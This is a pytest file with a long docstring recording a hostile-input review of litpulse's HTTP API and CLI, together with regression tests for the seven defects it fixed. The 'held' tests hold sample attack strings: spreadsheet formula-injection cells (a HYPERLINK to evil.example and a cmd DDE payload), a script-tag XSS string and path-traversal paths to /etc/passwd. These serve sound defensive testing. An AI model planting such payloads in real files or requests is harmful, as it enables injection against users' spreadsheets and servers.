"""Hostile review (session 31c) of the HTTP API, the page's API calls and the CLI, as a
hostile user: wrong types, out-of-range ids, odd Unicode, NUL bytes, foreign servers.

Every test drives the real code (the FastAPI app through ``TestClient``, the CLI's
``main``) on SQLite and, where a store matters, PostgreSQL. Each defect was a strict xfail
asserting the correct behaviour; all seven were fixed in the same session and are plain
tests now: C1 ``clean_doi(typed=True)`` finds no DOI in text holding a control character;
C2 ``widths.ID_MAX`` (2**31 - 1) bounds the CLI's ids and ``get_search``; C3 an id is ASCII
digits; C4 an answer that is no JSON object is no litpulse server's; C5 ``--port`` is
1-65535; C6 names are saved composed (NFC), found and refused in either form, and hold no
invisible format character; C7 the saved search's threshold and booleans are strict.

Defects:

C1 (PostgreSQL) ``GET /articles/doi/{doi}`` answers **500** for a DOI holding a NUL byte
   (``/articles/doi/10.1000/a%00b``; SQLite: 404). The README promises "400 for what is no
   DOI" and "The API never answers 5xx"; the server itself points there: ``GET
   /search?q=https://doi.org/10.1000/%2500`` answers 400 with ``"article":
   "/articles/doi/10.1000/%00"``, a link that then fails with 500. ``doi_key`` keeps the
   control character, ``Store.article_by_doi`` binds it, psycopg refuses it ("PostgreSQL
   text fields cannot contain NUL (0x00) bytes", a ``DataError`` no handler maps).
   At fault: ``litpulse.core.text.doi_key`` / ``ingest.store.Store.article_by_doi``
   (``litpulse/app/api.py`` ``article_by_doi_endpoint``). Fix: a DOI holding a control
   character is no DOI (``checked_text``, or refuse ``[\\x00-\\x1f\\x7f-\\x9f]`` in
   ``doi_key``): 400, as ``GET /search`` refuses NUL.
   (test_a_doi_with_a_nul_byte_is_a_4xx_not_a_500)
C2 (PostgreSQL) Every CLI id argument past 2**31 - 1 ends in a **traceback** (``DataError:
   integer out of range``), not exit 1 ("no such ...") or a usage error:
   ``alerts remove|edit|feed 3000000000``, ``tokens revoke 3000000000``, ``quarantine
   --raw|--before|--run 3000000000``. ``_common.id_arg`` allows up to 2**63 - 1
   (``MAX_ID``: "a larger one would overflow the database's integer"), but
   ``api_tokens.id``, ``quarantine.id``, ``ingest_runs.id`` and ``saved_searches.id`` are
   32-bit ``INTEGER``s; ``saved_searches.get_search`` reads any text of < 18 digits as an
   id. (Session 29's F5 fixed the same for ``alerts feed --after`` only; the API bounds
   its ids by ``MAX_ID = 2**31 - 1``.) Fix: ``id_arg = int_arg(1, 2**31 - 1)``, and
   ``get_search`` answers ``NotFoundError`` for digits above it without asking.
   (test_cli_ids_past_a_32_bit_integer_are_not_a_traceback)
C3 ``litpulse alerts remove ²`` (also ``edit``, ``feed``) ends in a **traceback**
   (``ValueError: invalid literal for int()``), on any store: ``get_search`` takes text
   for an id when ``str.isdigit()``, which is true for superscripts and circled digits
   (``²``, ``①``) that ``int()`` refuses. Fix: ``text.isascii() and text.isdecimal()``.
   (test_a_superscript_digit_as_a_saved_search_ref_is_not_a_traceback)
C4 ``litpulse search`` ends in a **traceback** when something other than ``litpulse
   serve`` answers 200 at ``LITPULSE_SEARCH_SERVER_URL`` (default
   ``http://127.0.0.1:8000/``, the port every other dev server takes): an HTML page gives
   ``JSONDecodeError``, a JSON array ``AttributeError: 'list' object has no attribute
   'get'``. The docstring promises "``None`` (search in process) when ... the server
   answers an error". At fault: ``litpulse/app/cli/search.py`` ``search_via_server``
   (``json.loads(body)`` unguarded). Fix: a body that is not a JSON object is "not a
   litpulse server: searching in process" (catch ``ValueError``, check ``dict``).
   (test_search_with_a_foreign_server_on_the_port_searches_in_process)
C5 ``litpulse serve --port 70000`` says "serving on http://127.0.0.1:70000/" and listens
   on **4464** (70000 mod 65536; seen with ``ss -ltn``): a client of port 70000 reaches
   nothing, and whatever else listens on 4464... ``--port -1`` loads the index and the
   model first, then fails with uvicorn's "Servname not supported" (exit 3).
   ``litpulse/app/cli/search.py`` ``register``: ``--port`` is ``type=int``. Fix:
   ``type=int_arg(1, 65535)`` (a usage error, exit 2, before anything loads).
   (test_serve_refuses_a_port_outside_1_to_65535)
C6 Saved-search names are unique byte for byte only: ``café`` typed on Linux (NFC, one
   code point) and ``café`` typed on macOS (NFD, ``e`` + U+0301) are two saved searches
   of the same visible name (both 201, listed side by side on the page, in ``alerts
   list``, in e-mail subjects and feed titles), and ``litpulse alerts remove café`` from the
   other system answers "no saved search has id or name" (exit 1) while the list shows
   it. The query is NFC-normalised (``ranking/search.py``: "an accent is one character
   (macOS: two)"), the name is not. At fault: ``saved_searches._clean_name`` and
   ``get_search``. Fix: ``unicodedata.normalize("NFC", ...)`` in both (and refuse
   format characters such as U+200B, which make ``café\\u200b`` a third "café").
   (test_a_name_differing_only_in_unicode_normalisation_is_taken)
C7 ``POST /alerts`` and ``PATCH /alerts/{id}`` coerce schema-violating values instead of
   refusing them (422): ``"min_score": true`` saves a threshold of **1.0**,
   ``"min_score": "0.7"`` 0.7, ``"has_abstract": "yes"`` true. The schema says number /
   boolean; ``saved_searches._clean_min_score`` refuses a boolean threshold on purpose
   ("min_score must be a finite number"), and ``POST /feedback`` is strict
   (``FeedbackIn``: ``strict=True``): here pydantic's lax mode turns it into 1.0 before
   that check, and the expert's search silently matches almost nothing. At fault:
   ``litpulse/app/alerts_api.py`` ``FiltersIn`` / ``SavedSearchIn`` / ``SavedSearchEdit``
   (no ``strict``). Fix: ``Field(strict=True)`` on ``min_score``, ``has_abstract`` and
   ``include_retracted`` (the dates keep their ``IsoDate`` text).
   (test_a_boolean_or_text_threshold_is_refused)

Attacks that held (plain tests):

H1 Exports of a record whose fields are hostile: a title ``=HYPERLINK(...)``, an author
   ``@SUM(1)``, a journal ``+cmd``, a volume ``-2+3``, a DOI and an abstract holding line
   breaks followed by ``ER  -`` / ``TY  -`` and braces: the CSV guards every text cell
   with ``'``, the RIS file keeps one record (each tag on one line), the BibTeX entry
   keeps its fields (braces escaped, the DOI's unbalanced ones dropped).
H2 A feed whose saved search's name and query, and whose match's title and explanation,
   hold ``]]>``, ``<script>``, ``&`` and XML-forbidden characters (``\\x0b``, U+FFFE)
   stays well-formed and carries the text as text (SQLite and PostgreSQL).
H3 Request bodies: 60,000 nested ``[`` (400, not a RecursionError 500), JSON sent as
   ``text/plain`` (422), undecodable bytes (422), a body over the limit (413, unread),
   NaN / 1e400 thresholds (422); paths: ``/static/..%2Fapi.py`` (404),
   ``/articles/doi/..%2F..%2Fetc%2Fpasswd`` (400), out-of-range ids (422); NUL in ``q``,
   ``mesh``, ``type`` and ``language`` (400) — on SQLite and PostgreSQL.
Also tried and held (not kept as tests): search parameters at their bounds and past them
(dates 0001-01-01 / 9999-12-31, half-life 1e-300, weights 1e-300 and 1000, k=100 at
offset 1000, 512-character queries of CJK or emoji, combining marks, BOM, RTL override);
``litpulse`` CLI bad values (NaN / inf weights and thresholds, empty names and users,
an ``--email`` that is no mailbox, ``--plot`` into a missing folder, huge ``--limit``):
each a clear message and exit 2. Observed, not filed: ``HEAD`` on every route answers 405;
the Atom feed's ``self``/``next`` links follow the request's ``Host`` header; ``/models``
varies on ``Accept`` without ``Vary``; ``litpulse demo generate --start 0001-01-01`` ends
in an ``OverflowError`` traceback (a developer tool).
"""

from __future__ import annotations

import csv
import http.server
import io
import threading
import traceback
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert, update

from litpulse.app.cli import main
from litpulse.core import db
from litpulse.core.schema import articles, digest_matches
from litpulse.core.settings import Settings
from litpulse.core.timeutil import utcnow
from litpulse.pipeline.saved_searches import add_search
from tests.conftest import _truncate
from tests.litpulse.app.apistore import UNLIMITED, unlimited_store
from tests.ranking.corpus import article_rows

fastapi = pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from litpulse.app.api import create_app  # noqa: E402
from litpulse.app.tokens import create_token  # noqa: E402

PG = pytest.param("postgresql", marks=pytest.mark.postgres)


@pytest.fixture
def backend_store(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Settings]:
    """An empty store on the parametrized backend, without API limits, also in the
    environment (for the CLI)."""
    url = ""
    if request.param == "postgresql":
        url = request.getfixturevalue("postgres_url")
    s = Settings.from_env({}, home=tmp_path / "home", database_url=url, **UNLIMITED)
    if url:
        _truncate(db.connect(s))
        monkeypatch.setenv("LITPULSE_DATABASE_URL", url)
    monkeypatch.setenv("LITPULSE_HOME", str(s.home))
    monkeypatch.setenv("LITPULSE_SEARCH_SERVER_URL", "")
    for key, value in UNLIMITED.items():
        monkeypatch.setenv(f"LITPULSE_{key.upper()}", str(value))
    yield s
    if not url:
        eng = db._ENGINES.pop(s.effective_database_url, None)
        if eng is not None:
            eng.dispose()


def _run_cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[Any, str]:
    """``main``'s exit code (argparse's SystemExit code too), or ``"traceback: ..."`` for
    an exception that escaped it; and its stderr."""
    try:
        code: Any = main(argv)
    except SystemExit as exc:
        code = exc.code
    except Exception as exc:  # what a user sees as a traceback
        code = "traceback: " + "".join(traceback.format_exception_only(exc)).strip()[:160]
    return code, capsys.readouterr().err


# ------------------------------------------------------------------------------ C1


@pytest.mark.parametrize(
    "backend_store",
    [
        "sqlite",
        PG,
    ],
    indirect=True,
)
def test_a_doi_with_a_nul_byte_is_a_4xx_not_a_500(backend_store: Settings) -> None:
    with TestClient(create_app(backend_store), raise_server_exceptions=False) as client:
        # a doi.org link with an escaped NUL is no DOI: the server no longer points at it
        # (it pointed at /articles/doi/10.1000/%00, which answered 500 on PostgreSQL)
        told = client.get("/search", params={"q": "https://doi.org/10.1000/%00"})
        assert told.status_code != 500 and "article" not in told.json(), told.text
        for path in ("/articles/doi/10.1000/%00", "/articles/doi/10.1000/a%00b"):
            got = client.get(path)
            assert got.status_code in (400, 404), (path, got.status_code, got.text[:120])
            assert got.json()["detail"]


# ------------------------------------------------------------------------------ C2

_BIG = "3000000000"  # past 2**31 - 1, well within the CLI's id_arg (2**63 - 1)
_ID_ARGVS = [
    ["alerts", "remove", _BIG],
    ["alerts", "edit", _BIG, "--query", "heart failure"],
    ["alerts", "feed", _BIG],
    ["tokens", "revoke", _BIG],
    ["quarantine", "--raw", _BIG],
    ["quarantine", "--before", _BIG],
    ["quarantine", "--run", _BIG],
]


@pytest.mark.parametrize(
    "backend_store",
    [
        "sqlite",
        PG,
    ],
    indirect=True,
)
def test_cli_ids_past_a_32_bit_integer_are_not_a_traceback(
    backend_store: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    add_search(backend_store, name="hf", query="heart failure", owner="cli:x")
    bad = {}
    for argv in _ID_ARGVS:
        code, err = _run_cli(argv, capsys)
        # "no such ..." (1), a usage error (2), or an empty listing (0): never a traceback
        if code not in (0, 1, 2):
            bad[" ".join(argv)] = code
    assert not bad, bad


# ------------------------------------------------------------------------------ C3


@pytest.mark.parametrize("backend_store", ["sqlite", PG], indirect=True)
def test_a_superscript_digit_as_a_saved_search_ref_is_not_a_traceback(
    backend_store: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    add_search(backend_store, name="hf", query="heart failure", owner="cli:x")
    for argv in (
        ["alerts", "remove", "²"],
        ["alerts", "edit", "①", "--min-score", "0.6"],
        ["alerts", "feed", "²"],
    ):
        code, err = _run_cli(argv, capsys)
        assert code == 1, (argv, code)
        assert "no saved search" in err


# ------------------------------------------------------------------------------ C4


@pytest.fixture
def corpus_store(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> Settings:
    return unlimited_store(tmp_path, tmp_path_factory, monkeypatch)


@pytest.mark.parametrize(
    "body", [b"<!doctype html><title>dev server</title>", b"[1, 2]"], ids=["html", "json-array"]
)
def test_search_with_a_foreign_server_on_the_port_searches_in_process(
    corpus_store: Settings,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    body: bytes,
) -> None:
    class Other(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        monkeypatch.setenv(
            "LITPULSE_SEARCH_SERVER_URL", f"http://127.0.0.1:{server.server_address[1]}/"
        )
        code, err = _run_cli(["search", "heart failure", "--mode", "lexical"], capsys)
    finally:
        server.shutdown()
        server.server_close()
    assert code == 0, code
    assert "searching in process" in err


# ------------------------------------------------------------------------------ C5


@pytest.mark.parametrize("port", ["70000", "-1"])
def test_serve_refuses_a_port_outside_1_to_65535(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    port: str,
) -> None:
    import uvicorn

    import litpulse.app.api as api_mod

    monkeypatch.setenv("LITPULSE_HOME", str(tmp_path / "home"))
    served: list[Any] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: served.append(kw))
    monkeypatch.setattr(api_mod, "prepare_to_serve", lambda settings: None)
    code, err = _run_cli(["serve", "--port", port], capsys)
    assert served == [], f"uvicorn was started with {served}"
    assert code == 2, code
    assert "--port" in err


# ------------------------------------------------------------------------------ C6


@pytest.mark.parametrize("backend_store", ["sqlite", PG], indirect=True)
def test_a_name_differing_only_in_unicode_normalisation_is_taken(
    backend_store: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    nfc = unicodedata.normalize("NFC", "café")
    nfd = unicodedata.normalize("NFD", "café")
    assert nfc != nfd
    token = create_token(backend_store, "alice").token
    auth = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app(backend_store), raise_server_exceptions=False) as client:
        first = client.post(
            "/alerts", json={"name": nfd, "query": "heart failure"}, headers=auth
        )  # saved from a Mac
        assert first.status_code == 201, first.text
        # typed on Linux: the name shown in the list, found by the CLI
        code, err = _run_cli(["alerts", "feed", nfc], capsys)
        assert code == 0, (code, err)
        again = client.post("/alerts", json={"name": nfc, "query": "asthma"}, headers=auth)
        assert again.status_code == 400, again.text
        # a third "café", with a zero-width space, is refused: it would read as the first
        hidden = client.post("/alerts", json={"name": nfc + "\u200b", "query": "asthma"},
                             headers=auth)  # fmt: skip
        assert hidden.status_code == 400 and "U+200B" in hidden.text, hidden.text
        # a joiner spells words (Persian) and emoji: kept
        persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
        joined = client.post("/alerts", json={"name": persian, "query": "asthma"}, headers=auth)
        assert joined.status_code == 201, joined.text
        assert len(client.get("/alerts").json()) == 2


# ------------------------------------------------------------------------------ C7


@pytest.mark.parametrize("backend_store", ["sqlite"], indirect=True)
def test_a_boolean_or_text_threshold_is_refused(backend_store: Settings) -> None:
    token = create_token(backend_store, "alice").token
    auth = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app(backend_store), raise_server_exceptions=False) as client:
        made = client.post("/alerts", json={"name": "hf", "query": "heart failure"}, headers=auth)
        assert made.status_code == 201, made.text
        sid = made.json()["id"]
        answers = {
            "post min_score true": client.post(
                "/alerts",
                json={"name": "hf2", "query": "heart failure", "min_score": True},
                headers=auth,
            ),
            "post min_score text": client.post(
                "/alerts",
                json={"name": "hf3", "query": "heart failure", "min_score": "0.7"},
                headers=auth,
            ),
            "patch min_score true": client.patch(
                f"/alerts/{sid}", json={"min_score": True}, headers=auth
            ),
            "patch has_abstract text": client.patch(
                f"/alerts/{sid}", json={"filters": {"has_abstract": "yes"}}, headers=auth
            ),
        }
        got = {what: r.status_code for what, r in answers.items()}
        assert got == dict.fromkeys(answers, 422), got
        # nothing was changed or added by them
        listed = client.get("/alerts").json()
        assert [(s["name"], s["min_score"], s["filters"]["has_abstract"]) for s in listed] == [
            ("hf", None, None)
        ]


# ------------------------------------------------------------------------------ held

_HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "journal": "+cmd|' /C calc'!A0",
    "authors": [{"last_name": "@SUM(1+1)", "fore_name": "A"}, {"collective_name": "-2+3 Group}"}],
    "abstract": "Line one.\nER  - \r\nTY  - JOUR\nTI  - injected } { \\ % #",
    "doi": "10.1000/x}\nER  - ",
    "record": {"volume": "-2+3", "issue": "@x", "pages": "=1-2"},
}


def test_exports_of_a_hostile_record_stay_one_guarded_record(corpus_store: Settings) -> None:
    with TestClient(create_app(corpus_store), raise_server_exceptions=False) as client:
        first = client.get("/search", params={"q": "heart failure", "k": 1})
        assert first.status_code == 200, first.text
        pmid = first.json()["results"][0]["pmid"]
        with db.connect(corpus_store).begin() as conn:
            conn.execute(update(articles).where(articles.c.pmid == pmid).values(**_HOSTILE))
        params = {"q": "heart failure", "k": 1}
        csv_text = client.get("/export", params={**params, "format": "csv"}).text
        ris = client.get("/export", params={**params, "format": "ris"}).text
        bib = client.get("/export", params={**params, "format": "bibtex"}).text
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert len(rows) == 1 and int(rows[0]["pmid"]) == pmid
    for column in ("title", "authors", "journal", "volume", "issue", "pages"):
        assert rows[0][column][:1] == "'", (column, rows[0][column])
    lines = ris.split("\r\n")
    # one record: the abstract's and the DOI's "ER  -" stay inside their tags' one line
    assert sum(line.startswith("TY  - ") for line in lines) == 1, ris
    assert sum(line.startswith("ER  - ") for line in lines) == 1, ris
    for line in lines:
        assert line == "" or line[2:6] == "  - ", line
    assert bib.count("@article{") == 1
    depth = 0
    for ch in bib.replace("\\textbraceleft{}", "").replace("\\textbraceright{}", ""):
        depth += {"{": 1, "}": -1}.get(ch, 0)
        assert depth >= 0
    assert depth == 0, bib


@pytest.mark.parametrize("backend_store", ["sqlite", PG], indirect=True)
def test_a_feed_of_hostile_text_stays_well_formed(backend_store: Settings) -> None:
    row = {**article_rows()[0], "pmid": 777, "doi": None}
    evil = "]]><script>alert(1)</script> & \x0b\ufffe"
    with db.connect(backend_store).begin() as conn:
        conn.execute(insert(articles), [row])
    search = add_search(
        backend_store, name="x ]]> <b>&amp;", query="heart <i>failure</i> & ]]>", owner="cli:x"
    )
    with db.connect(backend_store).begin() as conn:
        conn.execute(
            insert(digest_matches),
            [
                {
                    "search_id": search.id,
                    "pmid": 777,
                    "title": evil,
                    "score": 0.9,
                    "explanation": {"text": evil},
                    "index_version": "ix",
                    "model_version": "base",
                    "found_at": utcnow(),
                }
            ],
        )
    with TestClient(create_app(backend_store), raise_server_exceptions=False) as client:
        got = client.get(f"/feeds/{search.id}.atom")
    assert got.status_code == 200, got.text
    root = ET.fromstring(got.content)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert root.find("a:title", ns).text == "litpulse: x ]]> <b>&amp;"
    entry = root.find("a:entry", ns)
    assert entry.find("a:title", ns).text == "]]><script>alert(1)</script> & "
    assert root.find("a:entry/a:summary", ns).text.endswith("]]><script>alert(1)</script> &")


@pytest.mark.parametrize("backend_store", ["sqlite", PG], indirect=True)
def test_hostile_bodies_and_paths_get_a_clear_4xx(backend_store: Settings) -> None:
    token = create_token(backend_store, "alice").token
    auth = {"Authorization": f"Bearer {token}"}
    settings = backend_store.replace(api_max_body_bytes=65536)
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:

        def post(body: bytes, kind: str = "application/json") -> int:
            return client.post(
                "/alerts", content=body, headers={**auth, "Content-Type": kind}
            ).status_code

        assert post(b"[" * 60000) == 400
        assert post(b'{"name": "a", "query": "heart"}', "text/plain") == 422
        assert post(b"\xff\xfe\x00") in (400, 422)
        assert post(b'{"name": "a", "query": "heart", "min_score": NaN}') == 422
        assert post(b'{"name": "a", "query": "heart", "min_score": 1e400}') == 422
        assert post(b" " * 70000) == 413
        for path, want in (
            ("/static/..%2Fapi.py", 404),
            ("/static/%2e%2e", 404),
            ("/articles/doi/..%2F..%2Fetc%2Fpasswd", 400),
            ("/alerts/99999999999", 422),
            ("/feeds/99999999999.atom", 422),
            ("/articles/99999999999999999999", 422),
            ("/search?q=heart%00", 400),
            ("/search?q=heart&mesh=%00", 400),
            ("/search?q=heart&type=a%00", 400),
            ("/search?q=heart&language=%00", 400),
        ):
            got = client.get(path)
            assert got.status_code == want, (path, got.status_code, got.text[:120])
            assert "Traceback" not in got.text and "password" not in got.text.lower()
        assert client.get("/alerts").json() == []
